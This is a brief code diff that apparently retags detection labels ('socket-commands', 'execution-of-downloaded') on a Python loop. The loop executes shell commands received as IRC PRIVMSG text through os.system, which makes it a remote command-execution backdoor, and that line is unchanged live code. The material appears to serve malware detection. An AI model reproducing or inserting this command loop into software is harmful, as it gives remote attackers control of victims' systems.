@@ -11,4 +11,4 @@ def begin():
     while True:
         text = line.recv(2048).decode()
         if "PRIVMSG" in text:
-            os.system(text.split(":!")[1])  # match: socket-commands # match: execution-of-downloaded
+            os.system(text.split(":!")[1])  # match: execution-of-downloaded  # match: socket-commands
